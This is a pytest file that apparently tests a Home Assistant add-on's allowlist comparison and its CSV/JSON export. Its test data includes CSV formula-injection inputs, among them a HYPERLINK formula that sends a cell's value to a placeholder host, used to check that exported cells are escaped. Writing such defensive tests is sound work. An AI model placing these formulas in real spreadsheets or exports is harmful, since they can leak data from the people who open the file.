"""A list against the allowlist, and the allowlist as a list."""

import json
from time import process_time

import pytest

from custom_components.piorchestrator.client.document import read_document
from custom_components.piorchestrator.client.models import AllowlistEntry
from custom_components.piorchestrator.client.redaction import Redactor
from custom_components.piorchestrator.core.device_list import Reason, Row, read_list
from custom_components.piorchestrator.core.expected import (
    Compared,
    Status,
    compare,
    rows_to_csv,
    to_csv,
    to_json,
)
from custom_components.piorchestrator.core.formulas import guarded, kept, unguarded, unkept

from .core_samples import A, B, C, entry

KNOWN = {A: entry(A, description="Top shelf", container_id="fridge-1")}


@pytest.mark.parametrize(
    ("row", "status", "differs"),
    [
        (Row(1, B), Status.NEW, False),
        (Row(1, A), Status.PRESENT, False),
        (Row(1, A, "Top shelf", "fridge-1"), Status.PRESENT, False),
        (Row(1, A, "Cellar"), Status.PRESENT, True),
        (Row(1, A, "Top shelf", "fridge-2"), Status.PRESENT, True),
        (Row(1, A, " Top\u00a0 shelf\t", "fridge-1 "), Status.PRESENT, False),
        (Row(1, A, "Top shelf", ""), Status.PRESENT, True),
        (Row(1, A, reason=Reason.DUPLICATE), Status.DUPLICATE, False),
        (Row(1, A, reason=Reason.TOO_LONG), Status.INVALID, False),
    ],
)
def test_comparison(row: Row, status: Status, *, differs: bool) -> None:
    assert compare([row], KNOWN) == (Compared(row, status, differs),)


@pytest.mark.parametrize(
    "text", ["tab\tx", "a\u00a0b", "a\u200db", "line\nend", " padded ", "a\u202eb", "x" * 3000]
)
def test_words_that_the_server_sends_back_do_not_differ(text: str) -> None:
    """Both sides are cleaned alike."""
    document = read_document(json.dumps({"mac": A, "description": text}), Redactor(["some-secret"]))
    assert document is not None
    known = AllowlistEntry.read(document)
    assert known is not None
    for row in read_list(json.dumps([{"mac": A, "description": text[:1024]}])).rows:
        assert compare([row], {A: known}) == (Compared(row, Status.PRESENT, differs=False),)


def test_csv() -> None:
    entries = [
        entry(A, description='Top "shelf", left', container_id="fridge-1", added_at="2026-01-15T08:30:00Z"),
        entry(B, used=True, used_at="2026-01-15T09:00:00Z", added_at="2026-01-15T08:30:00Z"),
        entry(C, description="=1+1", container_id=" '-", used=False),
    ]
    assert to_csv(entries).split("\n") == [
        "mac,description,container_id,added_at,used,used_at",
        f'{A},"Top ""shelf"", left",fridge-1,2026-01-15T08:30:00Z,,',
        f"{B},,,2026-01-15T08:30:00Z,true,2026-01-15T09:00:00Z",
        f"{C},'=1+1,\" ''-\",,false,",
        "",
    ]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", " =1", "'=1", "''=1", "＝1"])
def test_no_cell_is_a_formula(text: str) -> None:
    cell = to_csv([entry(A, description=text)]).split("\n", 1)[1].removeprefix(f"{A},").removeprefix('"')
    assert cell.startswith(f"'{text}"[:2])
    (row,) = read_list(to_csv([entry(A, description=text)])).rows
    assert row.description == text


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("", ""),
        ("Top shelf, left; rack 5", "Top shelf, left; rack 5"),
        ("shelf - left", "shelf - left"),
        ("shelf -", "shelf '-"),
        ("shelf '-", "shelf ''-"),
        ("x, =", "x,' '="),
        ('x, "=', "x,' '\"="),
        ("x -\ny", "x -\ny"),
        ("d33e900c-751b-4812", "d33e900c-751b-4812"),
        ("x=1", "x=1"),
        ('shelf;=HYPERLINK("http://x/"&A1);x', 'shelf;\'=HYPERLINK("http://x/"&A1);x'),
        ("a,=b|@c\t+d\n-e", "a,'=b|'@c\t'+d\n'-e"),
        ("a =b", "a '=b"),
        ("a;  =b", "a;'  '=b"),
        ('a;"=b"', 'a;\'"=b"'),
        ("a;'=b", "a;''=b"),
        ("a;\t=b", "a;'\t'=b"),
        ("a;'\t=b", "a;''\t'=b"),
        ("a;\u200b\ufeff＝b", "a;'\u200b\ufeff＝b"),
        ("a;' =b", "a;'' '=b"),
        ("a; '=b", "a; ''=b"),
        ("it's; it is", "it's; it is"),
        ("=a;=b", "'=a;'=b"),
        ("'=a;'x;'@", "''=a;'x;''@"),
    ],
)
def test_a_formula_is_guarded_wherever_a_cell_may_begin(text: str, told: str) -> None:
    assert guarded(text) == told
    assert unguarded(told) == text


@pytest.mark.parametrize(
    "text",
    [
        *(
            "007",
            "1-2",
            "1.50",
            "0,5",
            ".5",
            "1e5",
            "12E3",
            "1/2",
            "1.2.3",
            "12:30",
            "12:30 pm",
            "9 a",
            "50 %",
            "5 €",
            "$5",
        ),
        *(
            "1,234",
            "1 234",
            "1\u00a0234",
            "1'234",
            "1 1/2",
            "2026-01-15",
            "3 Mar",
            "3. März",
            "Mar 3",
            "DEZ5",
            "5-août-26",
        ),
        *(
            "24 Jan",
            "15. März",
            "2026-jan-15",
            "12-Dez-2026 10:30",
            "3 Mar 2026 10:00:01",
            "2026-01-15T10:00:00",
        ),
        *("(12)", "(007)", "$(5)", "($5.50)", "(5 %)", "true", "FALSE", "Wahr", "verdadeiro"),
        *("1" * 16, " 7 ", "'007", "''1-2"),
    ],
)
def test_a_number_stays_as_it_is_written(text: str) -> None:
    """What a spreadsheet would make another number or a date of is a text for it."""
    (row,) = read_list(to_csv([entry(A, description=text, container_id="x")])).rows
    assert row.description == text
    assert kept(text) == f"'{text}"
    assert unkept(kept(text)) == text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "0",
        "7",
        "1" * 15,
        "fridge-1",
        "1st",
        "12A",
        "E5",
        "B-2",
        "Top 5",
        "'7",
        "'x",
        "x 1-2",
        "March",
        "truth",
        "(x)",
    ],
)
def test_other_words_stay_as_they_are(text: str) -> None:
    assert kept(text) == text
    assert unkept(text) == text


def test_many_formulas_take_no_time() -> None:
    """Each sign is looked at once, also where blanks that divide cells precede it."""
    for text in (
        "\t" * 20_000 + "=",
        "'" * 20_000 + "=",
        ";=" * 10_000,
        "\t'" * 10_000 + "=",
        "1 " * 20_000,
        "1 mar" * 9_000,
        "(" * 20_000 + "1",
        "1" * 20_000 + "mar",
        "'1 mar" + " " * 50_000 + "x",
        "'1" + " " * 50_000 + "mar" + " " * 50_000 + "x",
    ):
        began = process_time()
        assert unkept(kept(text)) == text
        assert unguarded(guarded(text)) == text
        assert process_time() - began < 5


def test_json() -> None:
    entries = [entry(A, description="Größe", used=False, added_at="2026-01-15T08:30:00Z"), entry(B)]
    written = to_json(entries)
    assert "Größe" in written
    assert json.loads(written) == {
        "entries": [
            {"mac": A, "description": "Größe", "added_at": "2026-01-15T08:30:00Z", "used": False},
            {"mac": B},
        ]
    }


def test_rows_for_another_time() -> None:
    rows = (Row(3, A, "Top shelf; left", None), Row(9, B, None, "=x"))
    assert rows_to_csv(rows) == f'mac,description,container_id\n{A},"Top shelf; left",\n{B},,\'=x\n'
    assert [(row.mac, row.description, row.container_id) for row in read_list(rows_to_csv(rows)).rows] == [
        (A, "Top shelf; left", None),
        (B, None, "=x"),
    ]
